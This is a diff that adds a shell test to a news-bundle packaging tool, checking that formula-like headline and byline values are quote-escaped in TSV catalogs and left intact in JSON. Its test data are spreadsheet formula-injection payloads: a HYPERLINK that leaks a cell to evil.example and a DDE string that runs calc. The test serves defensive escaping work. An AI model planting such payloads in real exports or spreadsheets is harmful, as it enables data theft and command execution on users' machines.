@@ -167,6 +167,36 @@ usage_error() {
 	same guids "$(jq -r .guid "$T/list.json" | sort)" "$(selected)"
 }
 
+@test "a formula from a sidecar: quoted in catalog.tsv and -t --tsv, as it was in --json and to --byline" {
+	local title='=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+	local byline="+cmd|'/C calc'!A0"
+	warta-normalize -q -p maritim.example "$SEED" >"$T/seed.xml"
+	printf 'file,headline,byline\n%s,"%s","%s"\n' "$(basename "$SEED")" \
+	    "${title//\"/\"\"}" "$byline" >"$T/side.csv"
+	warta-meta --no-find --sidecar "$T/side.csv" "$T/seed.xml" 2>/dev/null >"$T/m.xml"
+	warta-pack -q -o "$T/f.tar.gz" "$T/m.xml"
+	# The bundle's catalog: a quote before each, nothing else changed.
+	run -0 bash -c "tar -xzOf '$T/f.tar.gz' f/data/catalog.tsv | tail -n +2 | cut -f 2-6"
+	expect catalog.tsv "$output" "$(printf "2\t2021-08-10\tSemarang\t'%s\t'%s" "$byline" "$title")"
+	# The listing for scripts: the same cells.
+	local want
+	want=$(printf "%s\t2021-08-10\tSemarang\t'%s\t'%s\t%s" "$SEED_GUID" \
+	    "$byline" "$title" "$SEED_PATH")
+	run -0 bash -c "warta-unpack -t --tsv '$T/f.tar.gz' | cut -f 1-5,7"
+	expect tsv "${lines[1]}" "$want"
+	# Listed from the items rather than the catalog (--grep reads them):
+	# the same line.
+	run -0 bash -c "warta-unpack -t --tsv --grep Semarang '$T/f.tar.gz' | cut -f 1-5,7"
+	expect 'tsv from the items' "${lines[1]}" "$want"
+	# JSON and the selectors see the values as they were.
+	run -0 --separate-stderr warta-unpack -t --json --byline '+cmd|' "$T/f.tar.gz"
+	expect lines "${#lines[@]}" 1
+	run -0 jq -r '.byline, .title' <<<"$output"
+	expect json "$output" "$byline
+$title"
+	run -0 warta-verify -q "$T/f.tar.gz"
+}
+
 @test "selectors alone: --guid, --date (year, month, day, ranges), --byline, --place, --lang" {
 	same "--guid" "$(selected --guid "$SEED_GUID")" "$SEED_GUID"
 	same "--guid none" "$(selected --guid urn:newsml:maritim.example:nothing)" ""
